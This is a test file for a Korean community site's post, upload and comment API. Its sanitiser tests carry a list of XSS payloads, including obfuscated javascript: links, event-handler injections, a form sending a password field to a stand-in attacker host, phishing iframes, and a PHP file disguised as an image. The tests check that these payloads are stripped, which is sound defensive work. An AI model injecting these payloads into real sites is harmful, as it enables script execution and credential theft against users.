import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createTestApp, type TestApp } from '../../test/test-app';
import { comments, posts, postViews } from './community.tables';
import { type Cast, calls, createCast, writePost } from './community-test-kit';

/** Saving, viewing, uploads and comments of POST/GET /new_api/post* and /new_api/comment*. */

let app: TestApp;
let cast: Cast;
let api: ReturnType<typeof calls>;

beforeAll(async () => {
  app = await createTestApp();
  cast = await createCast(app);
  api = calls(app);
});
afterAll(() => app.dispose());

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#c33' } })
    .png()
    .toBuffer();
const fetchFile = (path: string) => app.inject({ method: 'GET', url: path });
const storedPost = async (postId: number) =>
  (await app.db.select().from(posts).where(eq(posts.postId, postId)))[0];

describe('reasons against a save', () => {
  it('an edit of a post that does not exist is a 404 and creates nothing', async () => {
    const response = await api.save(cast.member, {
      postId: 99_999_999,
      postTitle: '제목',
      postContent: '<p>내용</p>',
    });
    expect(response.statusCode).toBe(404);
    expect(response.json()).toMatchObject({ code: '404', message: '게시글을 찾을 수 없습니다.' });
  });

  it('answers every missing field at once, in the spec’s order, with the first as message', async () => {
    const response = await api.save(cast.member, { postContent: '<p><br></p>' });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({
      code: '400',
      message: '게시판을 선택해주세요.',
      data: null,
      reasons: [
        { field: 'boardId', message: '게시판을 선택해주세요.' },
        { field: 'postTitle', message: '게시글 제목을 입력해 주세요.' },
        { field: 'postContent', message: '게시글 내용을 입력해 주세요.' },
      ],
    });
  });

  it.each([
    [{ boardId: 9, postTitle: '제목', postContent: '<p>내용</p>' }, ['게시판을 선택해주세요.']],
    [{ boardId: 2, postTitle: '   ', postContent: '<p>내용</p>' }, ['게시글 제목을 입력해 주세요.']],
    [
      { boardId: 2, postTitle: 'x'.repeat(201), postContent: '<p>내용</p>' },
      ['게시글 제목은 200자 이내로 입력해 주세요.'],
    ],
    [
      { boardId: 2, postTitle: '제목', postContent: '<p>&nbsp; </p><script>alert(1)</script>' },
      ['게시글 내용을 입력해 주세요.'],
    ],
    [
      { boardId: 2, postTitle: '', postContent: '' },
      ['게시글 제목을 입력해 주세요.', '게시글 내용을 입력해 주세요.'],
    ],
  ])('%j → %j', async (json, messages) => {
    const response = await api.save(cast.member, json);
    expect(response.statusCode).toBe(400);
    expect(response.json().reasons.map((reason: { message: string }) => reason.message)).toEqual(messages);
    expect(response.json().message).toBe(messages[0]);
  });

  it('checks the login before the reasons, and the reasons before the permissions', async () => {
    expect((await api.save(null, {})).statusCode).toBe(401);
    const response = await api.save(cast.member, { boardId: 1, postTitle: '', postContent: '<p>x</p>' });
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe('게시글 제목을 입력해 주세요.');
  });

  it('an image alone is content', async () => {
    const response = await api.save(cast.member, {
      boardId: 2,
      postTitle: '사진',
      postContent: '<p><img src="/uploads/posts/images/2026/01/a.png"></p>',
    });
    expect(response.statusCode).toBe(200);
  });
});

describe('sanitising the content', () => {
  const vectors: [string, string][] = [
    ['script', '<script>alert(1)</script>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
    ['javascript: href', '<a href="javascript:alert(1)">링크</a>'],
    ['mixed-case entity javascript: href', '<a href="JaVaScRiPt&#58;alert(1)">링크</a>'],
    ['hex-entity javascript: href', '<a href="&#x6A;avascript:alert(1)">링크</a>'],
    ['tab inside javascript:', '<a href="jav&#x09;ascript:alert(1)">링크</a>'],
    ['data: URL link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">링크</a>'],
    ['data: URL image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['foreign iframe', '<iframe src="https://evil.example.com/phish"></iframe>'],
    ['javascript: iframe', '<iframe src="javascript:alert(1)"></iframe>'],
    ['style expression', '<p style="width: expression(alert(1)); color: red">글</p>'],
    ['style url', '<p style="background: url(javascript:alert(1))">글</p>'],
    ['object and embed', '<object data="evil.swf"></object><embed src="evil.swf">'],
    [
      'form action',
      '<form action="https://evil.example.com/steal"><input name="pw"><button>보내기</button></form>',
    ],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example.com">'],
    [
      'event handlers on allowed tags',
      '<p onclick="alert(1)">글</p><a href="https://example.com" onmouseover="alert(1)">링크</a>',
    ],
    [
      'style and link elements',
      '<style>@import "https://evil.example.com/x.css";</style><link rel="stylesheet" href="https://evil.example.com/x.css">',
    ],
    ['base href', '<base href="https://evil.example.com/">'],
    ['protocol-relative image', '<img src="//evil.example.com/x.png">'],
  ];
  const forbidden = [
    /<script/i,
    /\son\w+\s*=/i,
    /javascript:/i,
    /data:/i,
    /evil\.example\.com/i,
    /expression\(/i,
    /url\(/i,
    /<(svg|object|embed|form|input|meta|style|link|base)\b/i,
    /&#/,
  ];

  it.each(vectors)('%s: neither stored nor served', async (_name, vector) => {
    const postId = await writePost(app, cast.member, {
      boardId: 2,
      postTitle: 'XSS',
      postContent: `<p>안전한 글</p>${vector}`,
    });
    const stored = (await storedPost(postId))?.content ?? '';
    const served = (await api.view(cast.other, postId)).json().data.post.postContent as string;
    expect(served).toBe(stored);
    expect(stored).toContain('<p>안전한 글</p>');
    for (const pattern of forbidden) expect(stored, `${pattern}`).not.toMatch(pattern);
  });

  it('keeps the editor’s formatting, our images, video players and safe links', async () => {
    const html =
      '<h2>제목</h2><p style="text-align: center; color: #ff0000">가운데</p><ul><li><strong>굵게</strong></li></ul>' +
      '<p><img src="/uploads/posts/images/2026/01/a.png" alt="사진"></p>' +
      '<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>' +
      '<p><a href="https://example.com" target="_blank">링크</a></p>';
    const postId = await writePost(app, cast.member, { boardId: 2, postContent: html });
    const stored = (await storedPost(postId))?.content;
    expect(stored).toContain('<p style="text-align:center;color:#ff0000">가운데</p>');
    expect(stored).toContain('<img src="/uploads/posts/images/2026/01/a.png" alt="사진" />');
    expect(stored).toContain('<iframe src="https://www.youtube.com/embed/abc" allowfullscreen>');
    expect(stored).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">링크</a>',
    );
    expect((await storedPost(postId))?.contentText).toBe('제목 가운데 굵게 링크');
  });
});

describe('hits', () => {
  const hitOf = async (postId: number) => (await storedPost(postId))?.hit;
  const viewersOf = async (postId: number) =>
    (await app.db.select().from(postViews).where(eq(postViews.postId, postId))).map((view) => view.viewerKey);
  /**
   * Waits until `who`'s view of the post is counted. Counting starts as a view's answer goes out, before
   * the test makes its next call: once a later view is counted, an earlier one that was to count has been.
   */
  const countedFor = (postId: number, who: { idx: number } | null) =>
    vi.waitFor(async () => expect(await viewersOf(postId)).toContain(`m:${who?.idx}`));

  it('count once per viewer per day, after the answer', async () => {
    const postId = await writePost(app, cast.member, { boardId: 2 });
    const expectHit = (n: number) => vi.waitFor(async () => expect(await hitOf(postId)).toBe(n));

    expect((await api.view(cast.other, postId)).statusCode).toBe(200);
    await expectHit(1);
    await api.view(cast.other, postId);
    await api.view(cast.other, postId);
    await expectHit(1);
    await api.view(cast.staff, postId);
    await expectHit(2);

    const browser = { 'user-agent': 'Browser A' };
    await api.view(null, postId, browser);
    await expectHit(3);
    await api.view(null, postId, browser);
    await api.view(null, postId, { 'user-agent': 'Browser B' });
    await expectHit(4);
    const views = await app.db.select().from(postViews).where(eq(postViews.postId, postId));
    expect(views).toHaveLength(4);
    // Visitors are kept as a hash, never their address or browser.
    expect(views.some((view) => /127\.0\.0\.1|Browser/.test(view.viewerKey))).toBe(false);
  });

  it('reading a post for the write page is not a view', async () => {
    const postId = await writePost(app, cast.member, { boardId: 2 });
    const cookie = cast.member?.cookie ?? '';
    const forEdit = await app.inject({
      method: 'GET',
      url: `/new_api/post/${postId}?purpose=edit`,
      headers: { cookie },
    });
    expect(forEdit.statusCode).toBe(200);
    await api.view(cast.other, postId);
    await countedFor(postId, cast.other);
    // Had the read for the write page counted, its author would be among the viewers too.
    expect(await viewersOf(postId)).toEqual([`m:${cast.other?.idx}`]);
    expect(await hitOf(postId)).toBe(1);
  });

  it('a refused or missing post counts nothing', async () => {
    const postId = await writePost(app, cast.member, { boardId: 3, isSecret: true });
    expect((await api.view(cast.other, postId)).statusCode).toBe(403);
    await api.view(cast.member, postId);
    await countedFor(postId, cast.member);
    // Had the refused view counted, the other member would be among the viewers too.
    expect(await viewersOf(postId)).toEqual([`m:${cast.member?.idx}`]);
    expect(await hitOf(postId)).toBe(1);
  });
});

describe('editor image upload', () => {
  it('stores a JPEG without its EXIF and answers its path', async () => {
    const jpeg = await sharp({ create: { width: 30, height: 20, channels: 3, background: '#0a0' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'SecretCam', Copyright: 'GPS owner' } })
      .toBuffer();
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const response = await api.uploadImage(cast.member, jpeg, 'photo.jpg');
    expect(response.statusCode).toBe(200);
    const { uploadPath } = response.json().data;
    expect(uploadPath).toMatch(/^\/uploads\/posts\/images\/\d{4}\/\d{2}\/[0-9a-f-]{36}\.jpg$/);
    const file = await fetchFile(uploadPath);
    expect(file.statusCode).toBe(200);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    const meta = await sharp(file.rawPayload).metadata();
    expect([meta.format, meta.width, meta.exif]).toEqual(['jpeg', 30, undefined]);
    expect(file.rawPayload.includes(Buffer.from('SecretCam'))).toBe(false);
  });

  it('refuses a renamed text file, fake image bytes and an oversized file', async () => {
    const renamed = await api.uploadImage(cast.member, Buffer.from('<?php echo 1; ?>'), 'photo.png');
    expect(renamed.statusCode).toBe(400);
    expect(renamed.json().message).toBe('이미지 확장자만 업로드 가능합니다.');
    const svg = await api.uploadImage(cast.member, Buffer.from('<svg onload="alert(1)"/>'), 'x.svg');
    expect(svg.json().message).toBe('이미지 확장자만 업로드 가능합니다.');
    const fake = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('not a jpeg at all')]);
    expect((await api.uploadImage(cast.member, fake, 'x.jpg')).json().message).toBe(
      '이미지 확장자만 업로드 가능합니다.',
    );
    const big = Buffer.concat([await png(10, 10), Buffer.alloc(10 * 1024 * 1024)]);
    const oversized = await api.uploadImage(cast.member, big, 'big.png');
    expect(oversized.statusCode).toBe(400);
    expect(oversized.json().message).toBe('이미지는 10MB 이하만 업로드할 수 있습니다.');
  });

  it('is for members of level 2 and up', async () => {
    const image = await png(4, 4);
    expect((await api.uploadImage(null, image)).statusCode).toBe(401);
    expect((await api.uploadImage(cast.restricted, image)).statusCode).toBe(403);
  });
});

describe('webzine thumbnail', () => {
  const saveWebzine = (json: object, thumbnail?: Buffer) =>
    api.save(
      cast.admin,
      { boardId: 4, postTitle: '웹진', postContent: '<p>웹진 본문</p>', ...json },
      thumbnail && { data: thumbnail },
    );

  it('comes out cut to 700×1000 from a 1000×1000 picture; a new one replaces it, DELETE removes it', async () => {
    const created = await saveWebzine({ postImageCommand: 'UPDATE' }, await png(1000, 1000));
    expect(created.statusCode).toBe(200);
    const postId = created.json().data.postId as number;
    const first = (await storedPost(postId))?.thumbnail ?? '';
    expect(first).toMatch(/^\/uploads\/posts\/thumbnails\/\d{4}\/\d{2}\/[0-9a-f-]{36}\.png$/);
    const meta = await sharp((await fetchFile(first)).rawPayload).metadata();
    expect([meta.width, meta.height]).toEqual([700, 1000]);

    // No command keeps it.
    expect((await saveWebzine({ postId, postTitle: '제목만' })).statusCode).toBe(200);
    expect((await storedPost(postId))?.thumbnail).toBe(first);

    expect(
      (await saveWebzine({ postId, postImageCommand: 'UPDATE' }, await png(1400, 1000))).statusCode,
    ).toBe(200);
    const second = (await storedPost(postId))?.thumbnail ?? '';
    expect(second).not.toBe(first);
    expect((await fetchFile(first)).statusCode).toBe(404);
    const secondMeta = await sharp((await fetchFile(second)).rawPayload).metadata();
    expect([secondMeta.width, secondMeta.height]).toEqual([700, 1000]);

    expect((await saveWebzine({ postId, postImageCommand: 'DELETE' })).statusCode).toBe(200);
    expect((await storedPost(postId))?.thumbnail).toBeNull();
    expect((await fetchFile(second)).statusCode).toBe(404);
  });

  it('refuses a non-image and keeps nothing', async () => {
    const response = await saveWebzine({ postImageCommand: 'UPDATE' }, Buffer.from('GIF89a but not really'));
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe('이미지 확장자만 업로드 가능합니다.');
    const text = await saveWebzine({ postImageCommand: 'UPDATE' }, Buffer.from('hello'));
    expect(text.json().message).toBe('이미지 확장자만 업로드 가능합니다.');
  });

  it('is ignored on other boards', async () => {
    const response = await api.save(
      cast.member,
      { boardId: 2, postTitle: '글', postContent: '<p>본문</p>', postImageCommand: 'UPDATE' },
      { data: await png(100, 100) },
    );
    expect(response.statusCode).toBe(200);
    expect((await storedPost(response.json().data.postId))?.thumbnail).toBeNull();
  });

  it('goes with its post when the post is deleted', async () => {
    const created = await saveWebzine({ postImageCommand: 'UPDATE' }, await png(70, 100));
    const postId = created.json().data.postId as number;
    const path = (await storedPost(postId))?.thumbnail ?? '';
    await api.comment(cast.member, postId, '댓글');
    await api.view(cast.member, postId);
    expect((await api.remove(cast.admin, postId)).statusCode).toBe(200);
    expect((await fetchFile(path)).statusCode).toBe(404);
    expect(await app.db.select().from(comments).where(eq(comments.postId, postId))).toEqual([]);
    expect(await app.db.select().from(postViews).where(eq(postViews.postId, postId))).toEqual([]);
  });
});

describe('comments', () => {
  let postId: number;
  beforeAll(async () => {
    postId = await writePost(app, cast.member, { boardId: 2 });
  });

  it('are stored as plain text without control characters and answered as created', async () => {
    // A NUL (or another C0 control) is refused like any other bad input, and nothing is stored.
    const refused = await api.comment(cast.other, postId, '안녕\u0000하세요');
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({ code: '400', message: '입력한 내용을 다시 확인해주세요.' });
    const response = await api.comment(cast.other, postId, '  <b>안녕</b>하세요\u202e\r\n둘째 줄  ');
    expect(response.statusCode).toBe(200);
    expect(response.json().data).toMatchObject({
      postId,
      commentContent: '<b>안녕</b>하세요\n둘째 줄',
      memberIdx: cast.other?.idx,
      memberName: cast.other?.name,
      isDel: 'N',
      canDelete: true,
    });
  });

  it('must have text, at most 2,000 characters', async () => {
    const empty = await api.comment(cast.other, postId, ' \n\t ');
    expect(empty.json()).toMatchObject({ code: '400', message: '댓글 내용을 입력해 주세요.' });
    const long = await api.comment(cast.other, postId, '가'.repeat(2001));
    expect(long.json()).toMatchObject({ code: '400', message: '댓글은 2,000자 이내로 입력해 주세요.' });
    expect((await api.comment(cast.other, postId, '가'.repeat(2000))).statusCode).toBe(200);
    expect((await api.comment(cast.other, 99_999_999, '댓글')).statusCode).toBe(404);
  });

  it('deleted softly: hidden from the view, kept as isDel Y', async () => {
    const kept = (await api.comment(cast.member, postId, '남는 댓글')).json().data;
    const gone = (await api.comment(cast.other, postId, '지울 댓글')).json().data;
    expect((await api.removeComment(cast.other, gone.commentId)).json()).toEqual({
      code: '200',
      message: 'OK',
      data: null,
    });
    const view = (await api.view(cast.other, postId)).json().data;
    const ids = view.comments.map((comment: { commentId: number }) => comment.commentId);
    expect(ids).toContain(kept.commentId);
    expect(ids).not.toContain(gone.commentId);
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(view.post.commentCount).toBe(view.comments.length);
    const [row] = await app.db.select().from(comments).where(eq(comments.commentId, gone.commentId));
    expect(row?.isDel).toBe('Y');
    expect((await api.removeComment(cast.other, gone.commentId)).statusCode).toBe(404);
    const canDelete = view.comments.map((comment: { memberIdx: number; canDelete: boolean }) => [
      comment.memberIdx === cast.other?.idx,
      comment.canDelete,
    ]);
    expect(canDelete.every(([own, can]: boolean[]) => own === can)).toBe(true);
  });
});
